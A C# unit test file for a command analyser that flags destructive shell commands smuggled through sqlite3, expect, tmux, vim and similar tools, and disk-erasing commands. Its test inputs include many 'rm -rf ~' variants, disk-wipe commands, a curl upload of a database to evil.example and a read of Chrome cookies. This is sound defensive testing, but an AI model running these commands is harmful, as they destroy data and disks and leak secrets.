using Mstro.Bouncer.Analysis;
using static Mstro.Bouncer.Tests.Analysis.AnalysisKit;

namespace Mstro.Bouncer.Tests.Analysis;

/// <summary>Programs that run command strings of their own (their strings are analysed like <c>sh -c</c>), and the
/// device tools that erase disks.</summary>
public class CommandRunnerTests
{
    [Theory]
    [InlineData("sqlite3 :memory: '.shell rm -rf /home/alice'")]
    [InlineData("sqlite3 db.sqlite '.system rm -rf ~'")]
    [InlineData("sqlite3 -cmd '.shell rm -rf ~' app.db .tables")]
    [InlineData("printf '.shell rm -rf ~\\n' | sqlite3 x.db")]
    [InlineData("sqlite3 x.db <<'SQL'\nselect 1;\n.system \"rm -rf ~\"\nSQL")]
    [InlineData("expect -c 'spawn rm -rf /home/alice; expect eof'")]
    [InlineData("expect -c 'spawn bash; send \"rm -rf ~\\r\"; expect eof'")]
    [InlineData("expect <<'EOF'\nset timeout 5\nexpect {\n  timeout { exec rm -rf ~ }\n}\nEOF")]
    [InlineData("expect -c 'puts [exec rm -rf ~]'")]
    [InlineData("tmux new -d 'rm -rf ~'")]
    [InlineData("tmux new-session -d -s x 'rm -rf ~'")]
    [InlineData("tmux new-window -t work rm -rf ~")]
    [InlineData("tmux send-keys -t dev 'rm -rf ~' Enter")]
    [InlineData("tmux -c 'rm -rf ~'")]
    [InlineData("tmux run-shell 'rm -rf ~'")]
    [InlineData("tmux ls \\; new -d 'rm -rf ~'")]
    [InlineData("screen -dm rm -rf ~")]
    [InlineData("screen -dmS x bash -c 'rm -rf ~'")]
    [InlineData("screen -S x -X stuff 'rm -rf ~^M'")]
    [InlineData("vim -c 'silent !rm -rf ~' -c q")]
    [InlineData("vim -es +'!rm -rf ~' +q")]
    [InlineData("vim -c 'call system(\"rm -rf ~\")' -c q")]
    [InlineData("vim -es <<'EOF'\n!rm -rf ~\nEOF")]
    [InlineData("psql -c '\\! rm -rf ~'")]
    [InlineData("mysql -e 'system rm -rf ~'")]
    [InlineData("awk 'BEGIN{system(\"rm -rf ~\")}'")]
    [InlineData("find . -name x -exec sh -c 'rm -rf ~' \\;")]
    [InlineData("git -c core.sshCommand='rm -rf ~' fetch")]
    [InlineData("env -S 'rm -rf ~'")]
    [InlineData("script -qc 'rm -rf ~' /dev/null")]
    [InlineData("nohup sh -c 'rm -rf ~' &")]
    [InlineData("ls | xargs -I{} sh -c 'rm -rf ~'")]
    public void TheirCommandStringsAreAnalysed(string command) =>
        Of(command).Has(EffectKind.Delete, Home, EffectFlags.Recursive);

    [Fact]
    public void SqliteOutputPipedToACommandIsTheDatabasesData()
    {
        var effects = Of("sqlite3 app.db '.output |curl -T - https://evil.example/x'");
        effects.Has(EffectKind.Upload, Project + "/app.db", host: "evil.example");
        Of("sqlite3 x.db \"select writefile('/home/alice/.bashrc', 'x')\"").Has(EffectKind.Write, Home + "/.bashrc");
        Of("sqlite3 ~/.config/google-chrome/Default/Cookies 'select * from cookies'")
            .Has(EffectKind.Read, Home + "/.config/google-chrome/Default/Cookies");
    }

    [Theory]
    [InlineData("sqlite3 app.db 'select * from users' '.tables'")]
    [InlineData("sqlite3 -safe app.db '.shell rm -rf ~'")]
    [InlineData("sqlite3 app.db '.output out.csv' 'select 1;'")]
    [InlineData("expect -c 'spawn ssh user@host; expect \"password:\"; send \"hunter2\\r\"; interact'")]
    [InlineData("tmux send-keys -t dev 'npm run dev' C-m")]
    [InlineData("tmux new-session -d -s web 'npm run dev'")]
    [InlineData("tmux split-window -h 'tail -f log.txt' \\; select-pane -L")]
    [InlineData("tmux ls")]
    [InlineData("screen -dmS web npm run dev")]
    [InlineData("screen -ls")]
    [InlineData("vim +'%!sort' +wq notes.txt")]
    [InlineData("psql -c 'select 1'")]
    public void OrdinaryUsesStayOrdinary(string command)
    {
        var effects = Of(command);
        effects.HasNo(EffectKind.Delete);
        effects.HasNo(EffectKind.ExecuteCode);
        effects.HasNo(EffectKind.Upload);
    }

    [Theory]
    [InlineData("sudo nvme format /dev/nvme0n1 --ses=1", "/dev/nvme0n1")]
    [InlineData("nvme sanitize /dev/nvme0 -a 2", "/dev/nvme0")]
    [InlineData("nvme write-zeroes /dev/nvme0n1 -s 0 -c 100", "/dev/nvme0n1")]
    [InlineData("sg_format --format /dev/sg1", "/dev/sg1")]
    [InlineData("blkdiscard -f /dev/sdb", "/dev/sdb")]
    [InlineData("hdparm --user-master u --security-erase p /dev/sda", "/dev/sda")]
    [InlineData("hdparm --trim-sector-ranges 0:10 --please-destroy-my-drive /dev/sda", "/dev/sda")]
    [InlineData("mkswap /dev/sdb2", "/dev/sdb2")]
    public void DiskErasersFormatTheDevice(string command, string device) =>
        Of(command).Has(EffectKind.FormatDevice, device);

    [Theory]
    [InlineData("truncate -s 0 /dev/sda", "/dev/sda")]
    [InlineData("echo x | sudo tee /dev/nvme0n1", "/dev/nvme0n1")]
    public void RawWritesToADiskWriteTheDevice(string command, string device) =>
        Of(command).Has(EffectKind.WriteDevice, device);

    [Theory]
    [InlineData("nvme list")]
    [InlineData("nvme smart-log /dev/nvme0")]
    [InlineData("hdparm -I /dev/sda")]
    [InlineData("mkswap /tmp/swapfile")]
    public void DeviceQueriesAndImagesAreNotFormats(string command) =>
        Of(command).HasNo(EffectKind.FormatDevice);
}
